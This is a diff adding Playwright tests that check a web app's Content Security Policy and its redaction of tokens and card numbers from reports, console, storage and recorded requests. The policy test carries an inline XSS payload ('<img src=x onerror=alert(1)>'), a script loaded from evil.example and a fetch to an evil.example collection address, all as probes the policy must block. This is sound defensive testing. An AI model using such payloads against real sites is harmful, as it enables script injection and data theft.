@@ -1,0 +1,160 @@
+/** What the page's security policy refuses, and what leaves the browser: reports without secrets, addresses without tokens. */
+import { readFile } from 'node:fs/promises';
+import type { APIRequestContext, Page } from '@playwright/test';
+import { expect, openAs, people, provokingPage, test } from './support/test.ts';
+
+test.describe('the policy', () => {
+  test.use({ expectedErrors: /Content Security Policy|Trusted/ });
+
+  test('lets no inline script, no eval, no markup and no foreign host in, and tells of it', async ({
+    page,
+    request,
+  }) => {
+    await openAs(page, people.june, provokingPage);
+    await expect(page.getByRole('heading', { name: 'Page not found' })).toBeVisible();
+    const outcomes = await page.evaluate(async () => {
+      // What is evaluated by the browser's tools is exempt; what it starts is not.
+      await new Promise((resume) => setTimeout(resume));
+      const attempt = async (work: () => unknown) => {
+        try {
+          return String(await work());
+        } catch (error) {
+          return error instanceof Error ? error.name : 'refused';
+        }
+      };
+      const ranInline = () => {
+        const script = document.createElement('div');
+        script.setAttribute('onclick', 'globalThis.inlineRan = true');
+        script.click();
+        return Reflect.get(globalThis, 'inlineRan') ?? 'refused';
+      };
+      return {
+        inline: await attempt(ranInline),
+        eval: await attempt(() => Reflect.get(globalThis, 'eval')('1')),
+        markup: await attempt(() => {
+          document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
+        }),
+        script: await attempt(() => {
+          document.createElement('script').src = 'https://evil.example/evil.js';
+        }),
+        worker: await attempt(() => new Worker('data:text/javascript,1')),
+        call: await attempt(() => fetch('https://evil.example/collect')),
+        style: await attempt(() => {
+          document.createElement('style').innerHTML = 'b { color: red }';
+          return 'allowed';
+        }),
+      };
+    });
+    expect(outcomes).toEqual({
+      inline: 'TypeError',
+      eval: 'EvalError',
+      markup: 'TypeError',
+      script: 'TypeError',
+      worker: 'TypeError',
+      call: 'TypeError',
+      style: 'allowed',
+    });
+    const reports = async () => (await request.get('/sandbox/api/reports?kind=security')).text();
+    await expect.poll(reports).toContain('https://evil.example/collect');
+  });
+});
+
+/** A card that no other test names. */
+const card = '4000056655665556';
+
+test('a token and a card are in no report, on no console, in no storage and in no address', async ({
+  browser,
+  baseURL,
+  request,
+}, info) => {
+  const harPath = info.outputPath('session.har');
+  const context = await browser.newContext({ baseURL, recordHar: { path: harPath, mode: 'full', content: 'embed' } });
+  const said: string[] = [];
+  context.on('console', (message) => said.push(message.text()));
+  const page = await context.newPage();
+  const sent = await reportsFromNowOn(request);
+  // Drawn to be followed and replayed: all that is ever sent is sent.
+  await page.addInitScript(() => window.sessionStorage.setItem('monitoring-draw', '0'));
+
+  const token = await launchToken(request, baseURL);
+  await page.goto(`/app/orders?tempAuthId=${token}&sort=-total`);
+  await expect(page.getByRole('table', { name: 'Orders' })).toBeVisible();
+  await expect(page).toHaveURL('/app/orders?sort=-total');
+  await page.evaluate(
+    // As if thrown, but for the browser's own word about it on the console.
+    (message) => window.dispatchEvent(new ErrorEvent('error', { error: new Error(message) })),
+    `A failure of card ${card} at /app/?token=${token} with Authorization: Bearer ${token}`,
+  );
+  await expect.poll(sent).toContain('A failure of card [redacted] at');
+  await expect.poll(sent, { timeout: 20_000 }).toContain('replay_recording');
+  const stored = await storedText(page);
+  await page.goto('about:blank');
+  await expect.poll(sent).toContain('web-vital.lcp');
+  await context.close();
+
+  const secrets = [token, token.split('.')[2] ?? '', card];
+  const withSecrets = (texts: readonly string[]) =>
+    texts.filter((text) => secrets.some((secret) => text.includes(secret)));
+  expect(withSecrets([await sent()]), 'reports').toEqual([]);
+  expect(withSecrets(said), 'console').toEqual([]);
+  expect(withSecrets(stored), 'storage').toEqual([`localStorage access_token ${token}`]);
+  const requests = readRequests(await readFile(harPath, 'utf8'));
+  expect(withSecrets(requests), 'requests, but for the launch and the Authorization of calls').toEqual([]);
+});
+
+/** Reads what the monitoring is told after this moment, as one text. */
+async function reportsFromNowOn(request: APIRequestContext): Promise<() => Promise<string>> {
+  const read = async (): Promise<{ reportId: number; body: string }[]> =>
+    (await request.get('/sandbox/api/reports?kind=envelope')).json();
+  const last = (await read()).at(-1)?.reportId ?? 0;
+  return async () =>
+    (await read())
+      .filter(({ reportId }) => reportId > last)
+      .map(({ body }) => body)
+      .join('\n');
+}
+
+/** The token with which a tool of the sandbox launches the application. */
+async function launchToken(request: APIRequestContext, baseURL: string | undefined): Promise<string> {
+  const tool = await request.get(`http://127.0.0.1:${new URL(baseURL ?? '').port}/sandbox/embed?retailer=clio`);
+  const token = /[?&]token=([\w.-]+)/.exec(await tool.text())?.[1];
+  if (!token) throw new Error('The tool launches without a token.');
+  return token;
+}
+
+/** Everything the origin keeps in the browser, and what the page's history has. */
+function storedText(page: Page): Promise<string[]> {
+  return page.evaluate(async () => {
+    const entries = (name: string, storage: Storage) =>
+      Object.entries({ ...storage }).map(([key, value]) => `${name} ${key} ${value}`);
+    const databases = (await indexedDB.databases()).map(({ name }) => `database ${name}`);
+    return [
+      ...entries('localStorage', localStorage),
+      ...entries('sessionStorage', sessionStorage),
+      ...databases,
+      `cookie ${document.cookie}`,
+      `history ${JSON.stringify(window.history.state)}`,
+      `title ${document.title}`,
+    ];
+  });
+}
+
+interface Har {
+  log: {
+    entries: {
+      request: { url: string; headers: { name: string; value: string }[]; postData?: { text?: string } };
+    }[];
+  };
+}
+
+/** The requests of a recording as texts, without where a token belongs: the launching address, the header of calls. */
+function readRequests(recording: string): string[] {
+  const { log }: Har = JSON.parse(recording);
+  const [launch, ...rest] = log.entries.map(({ request }) => request);
+  expect(launch?.url).toContain('tempAuthId=');
+  return rest.map(({ url, headers, postData }) => {
+    const isCall = new URL(url).pathname.startsWith('/api/');
+    const shown = headers.filter(({ name }) => !(isCall && name.toLowerCase() === 'authorization'));
+    return JSON.stringify([url, shown, postData?.text]);
+  });
+}
